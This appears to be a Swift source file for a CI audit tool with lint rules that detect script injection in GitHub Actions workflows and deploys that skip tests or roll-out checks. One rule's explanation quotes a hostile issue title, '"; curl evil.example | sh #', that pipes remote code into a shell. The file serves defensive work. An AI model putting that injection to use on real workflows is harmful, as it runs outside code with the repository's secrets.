import Model
import Toolkit

/// C34, C36: what workflows run, and in which order.
enum WorkflowSafetyRules {
    static let all = [injection, order]

    private static let injection = Rule(
        "C34",
        .error,
        "Foreign text put into a shell line",
        why: """
            `${{ … }}` is filled in before the shell reads the line: a title such as `"; curl evil.example | sh #` is run, with the \
            workflow's secrets. Secrets put in so break at quotes and may show in the process list.
            """,
        fix: "Hand it over by `env:` and write \"$NAME\".",
        reference:
            "docs.github.com/actions/security-guides/security-hardening-for-github-actions, \"Script injections\"",
        exceptions:
            "numbers, hashes and names that GitHub checks; an error only for triggers that strangers can fire with secrets in reach.",
        bad: [".github/workflows/greet.yml": workflow("echo \"${{ github.event.issue.title }}\"", environment: false)],
        good: [".github/workflows/greet.yml": workflow("echo \"$TITLE\"", environment: true)],
        at: [".github/workflows/greet.yml:9"]
    ) { context in
        context.workflows.flatMap { file in
            file.jobs.flatMap(\.steps).flatMap { step in expressions(step, file, context) }
        }
    }

    private static let order = Rule(
        "C36",
        .warning,
        "Deploy that does not wait",
        why:
            "A deploy beside the tests ships what fails them; one that does not wait for the roll-out is green while pods crash.",
        fix: "`needs: test`; `kubectl rollout status`, and `kubectl rollout undo` when it fails.",
        reference:
            "docs.github.com/actions/using-jobs/using-jobs-in-a-workflow; kubernetes.io/docs/reference/kubectl/generated/kubectl_rollout",
        exceptions:
            "workflows that start when another one has ended, releases and manual starts; platforms that wait themselves (Fly, Cloud Run, Helm with --wait).",
        bad: [".github/workflows/deploy.yml": deploy(needs: false)],
        good: [".github/workflows/deploy.yml": deploy(needs: true)],
        at: [".github/workflows/deploy.yml:12"]
    ) { context in
        context.workflows.flatMap { file in
            file.deploys.flatMap { untested($0, file, context) + unwatched($0, file, context) } + rebuilt(file, context)
        }
    }

    // MARK: - Examples

    private static func workflow(_ run: String, environment: Bool) -> String {
        """
        name: greet
        on: {issues: {types: [opened]}}
        permissions: {}
        jobs:
          greet:
            runs-on: ubuntu-24.04
            timeout-minutes: 5
            steps:
              - run: \(run)
        \(environment ? "        env: {TITLE: \"${{ github.event.issue.title }}\"}\n" : "")
        """
    }

    private static func deploy(needs: Bool) -> String {
        """
        name: deploy
        on: {push: {branches: [main]}}
        permissions: {}
        concurrency: deploy
        jobs:
          test:
            runs-on: ubuntu-24.04
            timeout-minutes: 10
            steps:
              - run: pytest
              - run: pip-audit -r requirements.txt
          deploy:
            runs-on: ubuntu-24.04
            timeout-minutes: 10
            environment: production
            steps:
              - run: flyctl deploy --remote-only
        \(needs ? "    needs: test\n" : "")
        """
    }

    // MARK: - Private

    /// Text that strangers choose.
    private static let foreign = [
        "github.event.issue.title", "github.event.issue.body", "github.event.pull_request.title",
        "github.event.pull_request.body",
        "github.event.pull_request.head.ref", "github.event.pull_request.head.label",
        "github.event.pull_request.head.repo.default_branch",
        "github.event.comment.body", "github.event.review.body", "github.event.review_comment.body",
        "github.event.discussion.title",
        "github.event.discussion.body", "github.event.pages", "github.event.commits",
        "github.event.head_commit.message",
        "github.event.head_commit.author", "github.event.workflow_run.head_branch",
        "github.event.workflow_run.head_commit.message",
        "github.head_ref",
    ]

    private static func expressions(
        _ step: WorkflowFile.Step,
        _ file: WorkflowFile,
        _ context: AuditContext
    ) -> [Finding] {
        guard let node = step.node["run"], let run = node.string else { return [] }
        var found: [String: (Severity, String)] = [:]
        var rest = run[...]
        while let open = rest.firstRange(of: "${{"), let close = rest[open.upperBound...].firstRange(of: "}}") {
            let inner = String(ImageWords.trimmed(rest[open.upperBound..<close.lowerBound]))
            rest = rest[close.upperBound...]
            if let name = foreign.first(where: {
                inner == $0 || inner.hasPrefix($0 + ".") || inner.hasPrefix($0 + "[") || inner.contains(" \($0)")
            }) {
                found[name] = (severity(name, file), "\(name) is text of strangers, and is run as a part of the line")
            } else if inner.hasPrefix("secrets."), !inner.contains("GITHUB_TOKEN") {
                found["secrets"] = (.warning, "a secret is written into the shell line")
            }
        }
        return found.sorted { $0.key < $1.key }.map { name, value in
            let place = file.place(line(of: name, from: node, file, context))
            return Finding("C34", value.0, at: place, found: context.line(place), value.1, fix: "hand it over by env")
        }
    }

    /// Strangers can fire these, and the run has the repository's secrets and rights.
    private static func severity(_ name: String, _ file: WorkflowFile) -> Severity {
        let open: Set<String> = [
            "issues", "issue_comment", "pull_request_target", "workflow_run", "discussion", "discussion_comment",
            "fork", "watch",
        ]
        // The message of a push is written by somebody who may push.
        if name.contains("head_commit") || name.contains("commits") || name.contains("pages") { return .warning }
        return file.triggers.isDisjoint(with: open) ? .warning : .error
    }

    /// A block scalar begins on the line of its `|`; the first line with the expression is the place.
    private static func line(
        of name: String,
        from node: ConfigNode,
        _ file: WorkflowFile,
        _ context: AuditContext
    ) -> Int {
        let first = node.position.line
        let lines = first...(first + 200)
        return lines.first {
            context.rawLine(file.place($0))?.contains("${{") == true
                && context.rawLine(file.place($0))?.contains(name) == true
        } ?? first
    }

    private static func finding(
        _ severity: Severity,
        _ place: Place,
        _ context: AuditContext,
        _ message: String,
        _ fix: String
    ) -> Finding {
        Finding("C36", severity, at: place, found: context.line(place), message, fix: fix)
    }

    private static func untested(_ job: WorkflowFile.Job, _ file: WorkflowFile, _ context: AuditContext) -> [Finding] {
        // Another workflow, a release or a person has decided.
        let decided: Set<String> = ["workflow_run", "release", "workflow_call", "repository_dispatch", "schedule"]
        guard file.triggers.isDisjoint(with: decided), file.triggers != ["workflow_dispatch"] else { return [] }
        guard !job.tests, !file.ancestors(of: job).contains(where: \.tests) else { return [] }
        // Without any tests to wait for there is nothing to put in order.
        guard context.workflows.contains(where: { $0.jobs.contains(where: \.tests) }) else { return [] }
        return [
            finding(.warning, file.place(job.line), context, "\(job.name) does not wait for the tests", "needs: test")
        ]
    }

    private static func unwatched(_ job: WorkflowFile.Job, _ file: WorkflowFile, _ context: AuditContext) -> [Finding] {
        let shell = job.shell
        var message: String?
        let changes = ["kubectl set image", "kubectl apply", "kubectl rollout restart"].contains { shell.contains($0) }
        if changes, !shell.contains("rollout status"), !shell.contains("kubectl wait") {
            message = "nobody looks whether the new pods work"
        }
        if shell.contains("aws ecs update-service"), !shell.contains("services-stable") {
            message = "nobody looks whether the new tasks work"
        }
        if shell.contains("helm upgrade"), !shell.contains("--wait"), !shell.contains("--atomic") {
            message = "helm does not wait for the pods"
        }
        guard let message else { return [] }
        return [
            finding(
                .warning,
                file.place(job.line),
                context,
                message,
                "wait for the roll-out, and go back when it fails"
            )
        ]
    }

    /// The same image built in two jobs: what was tested is not what is shipped.
    private static func rebuilt(_ file: WorkflowFile, _ context: AuditContext) -> [Finding] {
        let building = file.jobs.filter { job in
            job.steps.contains {
                $0.uses?.hasPrefix("docker/build-push-action@") == true || $0.run?.contains("docker build ") == true
            }
        }
        guard building.count > 1, let last = building.last, last.deploys else { return [] }
        return [
            finding(
                .info,
                file.place(last.line),
                context,
                "\(last.name) builds the image again instead of taking the tested one",
                "push once, deploy by digest"
            )
        ]
    }
}
